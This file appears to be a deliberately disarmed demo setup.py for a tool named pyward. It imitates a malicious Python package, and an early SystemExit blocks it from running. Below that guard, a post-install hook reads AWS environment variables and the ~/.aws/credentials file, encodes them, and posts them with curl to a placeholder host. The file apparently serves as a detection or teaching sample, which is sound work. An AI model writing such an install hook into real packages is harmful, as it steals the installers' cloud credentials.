# pyward demo: an INERT imitation of a credential-stealing setup.py.
# The next line stops any attempt to run it; nothing below it ever executes.
raise SystemExit("pyward demo package: not installable")

import os
import base64
from setuptools import setup
from setuptools.command.install import install


def collect():
    keys = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
    path = os.path.expanduser("~/.aws/credentials")
    if os.path.exists(path):
        keys["file"] = open(path).read()
    return base64.b64encode(repr(keys).encode()).decode()


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s -X POST https://collector.example.invalid/k -d " + collect())


setup(
    name="demo-stealer",
    version="0.1",
    packages=["demo_stealer"],
    cmdclass={"install": PostInstall},
)
